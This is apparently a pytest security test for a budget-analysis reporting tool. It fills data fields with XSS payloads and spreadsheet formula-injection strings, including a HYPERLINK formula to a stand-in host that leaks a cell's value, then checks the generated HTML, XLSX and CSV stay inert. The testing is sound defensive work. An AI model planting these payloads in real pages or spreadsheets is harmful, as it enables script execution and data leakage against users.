"""Hostile data end to end: a data folder whose every text field is script or formula text.

A copy of the embedded data gets, in every free-text field of every dataset (``source``,
``note``, ``legal_basis``, ``plan``, ``unit``, ``programme``), in its meta titles and in a new
regency's name, the texts of :data:`HOSTILE`; a scenario YAML has hostile labels.
A small batch (the new regency, all four notebooks) runs through ``ucj batch``; then

- every HTML page opens in headless Chromium without a dialog, and its DOM has no ``<script>``,
  no ``on*`` handler and no ``javascript:`` link coming from the data;
- no cell of summary.xlsx is a formula and formula-like text carries Excel's quote prefix;
- no field of summary.csv starts a formula.

Key columns that select rows (``scheme``, ``component``, ``parameter``, ``segment``, ``fund``,
``level``, ``quality``) and ``province`` keep their valid values: the loaders reject any other
value there as unknown (checked by the loader tests), so no hostile text gets through them.
"""

from __future__ import annotations

import csv
import re
import textwrap
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from ucj_analysis import render
from ucj_analysis.cli import app

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data"
NOTEBOOKS = ROOT / "notebooks"
CHROMIUM = Path("/usr/bin/chromium")

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("http://x?"&A2,"y")',
    "+1",
    "-2",
    "@SUM(1)",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
)
#: columns of free text (names, sources, notes): every row gets hostile text there
FREE_TEXT = ("source", "note", "legal_basis", "plan", "unit", "programme")
#: the new regency: formula text and an event handler in its name
REGENCY = '=HYPERLINK("http://x?"&A2,"y")<img src=x onerror=alert(1)>'
TEMPLATE = "Banggai"  # the new regency copies this regency's rows
SCENARIO_LABEL = {
    "id": "=1+1<script>alert(1)</script>",
    "en": "@SUM(1)<img src=x onerror=alert(1)>",
}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian chromium (/usr/bin/chromium)"),
]


def build_hostile_data(out: Path) -> Path:
    """Copy of the embedded data with hostile text in every free-text field and a new regency."""
    out.mkdir(parents=True, exist_ok=True)
    for path in sorted(DATA.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        columns = list(rows[0])
        new = []
        for row in rows:
            if row.get("regency") == TEMPLATE and row.get("level", "regency") == "regency":
                new.append(row | {"regency": REGENCY})
            elif row.get("area") == TEMPLATE:
                new.append(row | {"area": REGENCY})
        rows += new
        for i, row in enumerate(rows):
            for j, col in enumerate(c for c in FREE_TEXT if c in row):
                text = HOSTILE[(i + j) % len(HOSTILE)]
                # a programme keeps a distinct name per row (part of the row key)
                row[col] = f"{text} {i}" if col == "programme" else text
        with (out / path.name).open("w", encoding="utf-8", newline="") as fh:
            writer = csv.DictWriter(fh, columns)
            writer.writeheader()
            writer.writerows(rows)
        meta = {
            "title": f"{HOSTILE[len(path.stem) % 2]} {path.stem}",
            "description": HOSTILE[1],
            "sources": {text: {"title": HOSTILE[0], "url": "javascript:alert(1)"}
                        for text in HOSTILE},
        }  # fmt: skip
        (out / f"{path.stem}.meta.yaml").write_text(yaml.safe_dump(meta), encoding="utf-8")
    return out


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    data = build_hostile_data(base / "data")
    scenarios = base / "hostile_scenarios.yaml"
    scenarios.write_text(
        yaml.safe_dump(
            {
                "version": 1,
                "scenarios": {
                    "hostile": {
                        "label": SCENARIO_LABEL,
                        "description": {"id": HOSTILE[1], "en": HOSTILE[3]},
                        "levers": [
                            {
                                "type": "share_of_fund",
                                "fund": "ADD",
                                "share_pct": 10,
                                "start": "2026-01",
                            }
                        ],
                    }
                },
            },
            allow_unicode=True,
        ),  # fmt: skip
        encoding="utf-8",
    )
    batch = base / "batch.yaml"
    batch.write_text(
        textwrap.dedent(
            f"""
            parameters: {{n_draws: 40}}
            notebooks:
              - {NOTEBOOKS / "01_data_audit.ipynb"}
              - path: {NOTEBOOKS / "02_regency_forecast.ipynb"}
                parameters: {{scenarios: [trend_only, add_10, {scenarios}]}}
              - path: {NOTEBOOKS / "03_budget_scenarios.ipynb"}
                parameters: {{scenarios: [trend_only, {scenarios}]}}
              - {NOTEBOOKS / "04_portfolio.ipynb"}
            """
        ),
        encoding="utf-8",
    )
    out = base / "reports"
    args = ["batch", str(batch), "--data-dir", str(data), "--only", REGENCY, "--out", str(out)]
    result = CliRunner().invoke(app, [*args, "--jobs", "2", "--no-progress"])
    assert result.exit_code == 0, result.output
    return out


def _pages(out: Path) -> list[Path]:
    return [out / "index.html", *sorted(out.glob("*/*.html"))]


def test_hostile_batch_ran_every_notebook_for_the_hostile_regency(hostile_batch):
    pages = _pages(hostile_batch)
    names = sorted(p.parent.name for p in pages[1:])
    assert names == ["01_data_audit", "02_regency_forecast", "03_budget_scenarios", "04_portfolio"]
    # the hostile texts reached the pages, as text
    forecast = next(p for p in pages if p.parent.name == "02_regency_forecast")
    text = forecast.read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "=1+1&lt;script&gt;alert(1)&lt;/script&gt;" in text  # the scenario label
    index = pages[0].read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://x?&quot;&amp;A2,&quot;y&quot;)&lt;img" in index or (
        '=HYPERLINK("http://x?"&amp;A2,"y")&lt;img' in index
    )
    audit = (hostile_batch / "01_data_audit" / "all.html").read_text(encoding="utf-8")
    for hostile in ("&lt;script&gt;alert(1)&lt;/script&gt;", "@SUM(1)", "javascript:alert(1)"):
        assert hostile in audit, hostile


def test_no_page_runs_script_from_the_data(hostile_batch):
    playwright_api = pytest.importorskip("playwright.sync_api")
    from test_browser import CHROMIUM_ARGS

    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        try:
            context = browser.new_context(offline=True)
            page = context.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
            checked = 0
            for path in _pages(hostile_batch):
                page.goto(path.as_uri())
                page.wait_for_load_state("load")
                page.wait_for_timeout(200)  # let an onerror/onload handler fire if one exists
                found = page.evaluate(
                    """() => {
                        const out = {scripts: document.scripts.length, handlers: [], links: []};
                        for (const el of document.querySelectorAll('*')) {
                            for (const a of el.attributes) {
                                if (a.name.startsWith('on'))
                                    out.handlers.push(el.tagName + ' ' + a.name);
                            }
                        }
                        for (const a of document.querySelectorAll('[href], [src], [action]')) {
                            const url = (a.getAttribute('href') || a.getAttribute('src') ||
                                         a.getAttribute('action') || '').replace(/\\s/g, '');
                            if (/^(javascript|vbscript):/i.test(url) ||
                                (/^data:/i.test(url) && !/^data:image\\//i.test(url)))
                                out.links.push(a.tagName + ' ' + url.slice(0, 60));
                        }
                        return out;
                    }"""
                )
                assert found == {"scripts": 0, "handlers": [], "links": []}, (path, found)
                checked += 1
            assert dialogs == []
            assert checked == 5
        finally:
            browser.close()


def test_summary_xlsx_has_no_formula(hostile_batch):
    from openpyxl import load_workbook

    wb = load_workbook(hostile_batch / "summary.xlsx")
    hostile_cells = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and re.match(r"^\s*[=+\-@]|^[\t\r\n]", cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    hostile_cells += 1
    # the regency name on every summary row and report row, the sources of the data sheet
    summary = wb[wb.sheetnames[0]]
    regencies = [summary.cell(r, 1).value for r in range(2, summary.max_row + 1)]
    assert regencies and set(regencies) == {REGENCY}
    assert hostile_cells >= len(regencies) + 2


def test_summary_csv_starts_no_formula(hostile_batch):
    raw = (hostile_batch / "summary.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(raw.splitlines(), delimiter=";"))
    assert len(rows) >= 3 and all(len(r) == len(rows[0]) for r in rows)
    for row in rows:
        for field in row:
            assert not render.formula_like(field), field
    regency_col = [r[0] for r in rows[1:]]
    assert set(regency_col) == {"'" + REGENCY}
    labels = {r[1] for r in rows[1:]}
    assert "'" + SCENARIO_LABEL["id"] in labels
